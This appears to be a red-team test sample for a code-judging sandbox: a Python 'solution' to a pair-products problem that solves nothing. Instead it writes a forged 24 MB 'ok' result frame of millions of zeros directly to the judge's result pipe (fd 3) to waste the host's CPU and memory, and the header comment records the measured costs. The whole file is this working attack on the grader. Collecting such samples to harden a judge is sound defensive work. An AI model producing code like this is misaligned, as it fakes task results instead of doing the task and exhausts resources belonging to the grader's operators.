# Kind 7, costing the judge what no run is charged for: the check run's result frame, written by hand on the result pipe (fd 3), is valid JSON of 24 MB, millions of small integers (red team round 6b: a 16 MB frame cost the jail 3 s and the host's worker 1 s of CPU and 200 MB to decode, 40 MB 10 s and 500 MB, for a wrong answer).
import os


class Solution:
    def pairProducts(self, nums: List[int]) -> List[int]:
        body = b'{"status": "ok", "outputs": [[' + b"0," * 12_000_000 + b"0]]}"
        os.write(3, len(body).to_bytes(4, "big") + body)
        os._exit(0)
